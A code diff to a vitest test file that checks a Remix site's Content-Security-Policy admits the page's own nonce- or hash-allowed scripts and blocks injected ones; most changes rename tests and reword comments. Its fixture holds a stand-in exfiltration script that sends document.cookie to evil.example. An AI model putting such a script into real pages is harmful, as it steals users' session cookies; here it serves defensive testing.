@@ -1,4 +1,4 @@
-/** A page's own scripts are named to the browser, by nonce or by hash; a script that got in otherwise is not. */
+/** Tests that the Content-Security-Policy allows the scripts of a page, by nonce or by hash, and no injected script. */
 import { createHash } from 'node:crypto';
 import { describe, expect, test } from 'vitest';
 import { DEFERRED_TYPE, deferScripts, trustByHash } from './deferred-scripts.server';
@@ -11,7 +11,7 @@ const MODULE = 'import * as route0 from "/assets/root.js";import("/assets/entry.
 const DATA = 'window.__remixContext.streamController.enqueue("data");';
 const INJECTED = 'fetch("https://evil.example/?" + document.cookie)';
 
-/** As Remix renders it. */
+/** A page as Remix renders it, with two injected scripts. */
 const page = [
   `<html><head><script nonce="${NONCE}">${COLOUR_MODE}</script>`,
   '<script type="application/ld+json">{"@type":"NGO"}</script></head><body>',
@@ -23,8 +23,8 @@ const page = [
   `<!--$--><script nonce="${NONCE}">${DATA}</script><!--$--><!--/$--><!--/$-->`,
 ].join('');
 
-/** What a browser does with `script-src`: of each inline script, whether it runs. */
-function runs(html: string, policy: string) {
+/** Returns for each inline script whether a browser would run it under `script-src` of this policy. */
+function inlineScripts(html: string, policy: string) {
   const [, sources = ''] = /script-src ([^;]*)/.exec(policy) ?? [];
   expect(sources).not.toMatch(/unsafe|\*/);
   return [...html.matchAll(/<script([^>]*)>([\s\S]*?)<\/script>/g)]
@@ -42,33 +42,32 @@ function runs(html: string, policy: string) {
 describe.each([
   ['nonce', { html: page, trust: { kind: 'nonce', nonce: NONCE } as const }],
   ['hash', trustByHash(page, NONCE)],
-])('by %s', (_, { html, trust }) => {
+])('a policy with scripts allowed by %s', (_, { html, trust }) => {
   const policy = contentSecurityPolicy(trust, sha256('body{}'));
 
-  test('every script of the page runs, and no injected one', () => {
-    const scripts = runs(html, policy);
+  test('allows every script of the page, and no injected script', () => {
+    const scripts = inlineScripts(html, policy);
     expect(scripts).toHaveLength(7);
     for (const { text, allowed } of scripts) expect(allowed, text).toBe(text !== INJECTED);
   });
 
-  test('the late module runs as its own text', () => {
-    // deferred-script-loader.ts copies the text of the inert script, which the nonce or the hash allows.
-    expect(runs(deferScripts(html), policy).find(({ text }) => text === MODULE)?.allowed).toBe(
-      true,
-    );
+  test('allows the text of the deferred module script', () => {
+    // deferred-script-loader.ts copies the text of the inert script into a new script.
+    const scripts = inlineScripts(deferScripts(html), policy);
+    expect(scripts.find(({ text }) => text === MODULE)?.allowed).toBe(true);
   });
 });
 
-test('a kept page has no trace of the nonce that rendered it', () => {
+test('a page with scripts allowed by hash does not contain the nonce', () => {
   const { html } = trustByHash(page, NONCE);
   expect(html).not.toContain(NONCE);
   expect(html).toContain('nonce="guessed"');
 });
 
-describe('deferred scripts', () => {
+describe('deferScripts', () => {
   const deferred = deferScripts(page);
 
-  test('the module script is a data block that lists its preloads', () => {
+  test('turns the module script into an inert script that lists its preloads', () => {
     expect(deferred).not.toContain('type="module"');
     expect(deferred).not.toContain('<link');
     expect(deferred).not.toContain('async');
@@ -77,7 +76,7 @@ describe('deferred scripts', () => {
     );
   });
 
-  test('the page ends with </html>, and keeps the order of its scripts', () => {
+  test('moves streamed scripts into the body and keeps the order of the scripts', () => {
     expect(deferred).toMatch(/<\/script><\/body><\/html>$/);
     expect(deferred).not.toContain('<!--');
     const texts = (html: string) =>
@@ -85,18 +84,18 @@ describe('deferred scripts', () => {
     expect(texts(deferred)).toEqual(texts(page));
   });
 
-  test('a page without scripts loses only what React streams after </html>', () => {
+  test('removes only the streamed markers after </html> from a page without scripts', () => {
     const light = '<html><body><p>light</p></body></html>';
     expect(deferScripts(`${light}<!--$--><!--/$-->`)).toBe(light);
   });
 });
 
-test('the small scripts cannot end their own element', () => {
+test('the inline scripts contain no text that would end the script element', () => {
   for (const script of [COLOUR_MODE, DEFERRED_SCRIPT_LOADER])
     expect(script).not.toMatch(/<\/|<!--/);
 });
 
-test('a page is nobody’s frame, takes nothing from elsewhere, and sends forms only here', () => {
+test('the policy forbids framing, content of other sites, and forms to other sites', () => {
   const policy = contentSecurityPolicy({ kind: 'nonce', nonce: NONCE }, sha256('x'));
   for (const directive of [
     `default-src 'none'`,
